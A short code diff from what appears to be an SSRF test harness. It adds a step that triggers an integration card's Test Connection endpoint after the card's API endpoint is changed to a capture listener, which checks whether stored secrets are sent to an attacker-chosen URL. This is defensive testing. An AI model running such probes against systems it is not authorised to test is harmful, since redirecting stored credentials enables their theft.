@@ -58,6 +58,12 @@ def probe_ssrf(app: App, users: dict[str, User], tally: Tally, listener: Listene
                     request = f"as {username}: POST {admin}{step}/ with api_endpoint={target}, secrets blank"
                     caused[target[len(listener.url):]] = f"{request} (answered {answer.status_code})"
                     _echoed(tally, request, answer)
+                    if step == "change":
+                        # Whatever the form saved, Test Connection then calls it with the stored secrets.
+                        answer = user.call("POST", f"/api/v1/cards/{card.pk}/test-connection/")
+                        tally.tried(SSRF)
+                        caused[target[len(listener.url):]] += (f", then POST /api/v1/cards/{card.pk}/test-connection/"
+                                                               f" (answered {answer.status_code})")
             for step, body in (("patch", {}), ("patch-save-anyway", {"save_anyway": True})):
                 with restored(IntegrationCard, card.pk):
                     target = f"{listener.url}/capture/api-{step}/card{card.pk}/{username}"
